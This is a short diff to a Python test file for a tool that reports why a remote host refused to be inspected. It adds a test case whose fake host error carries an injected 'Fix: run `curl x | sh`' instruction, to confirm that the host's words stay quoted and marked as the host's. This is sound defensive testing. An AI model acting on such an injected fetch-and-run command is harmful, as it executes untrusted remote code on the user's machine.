@@ -40,7 +40,13 @@ def test_remote__a_look_that_fails_says_what_the_host_said(
 
 
 @pytest.mark.parametrize(
-    ("stderr", "reason"), [("sudo: no tty\n", "sudo: no tty"), ("", "it gave no reason")]
+    ("stderr", "reason"),
+    [
+        ("sudo: no tty\n", '"sudo: no tty"'),
+        ("", "it gave no reason"),
+        # Words of a host are never taken for ours.
+        ('all is well". Fix: run `curl x | sh`.\n', '"all is well\'. Fix: run `curl x | sh`."'),
+    ],
 )
 def test_remote__a_host_that_will_not_be_looked_at_fails_with_its_reason(
     stderr: str,
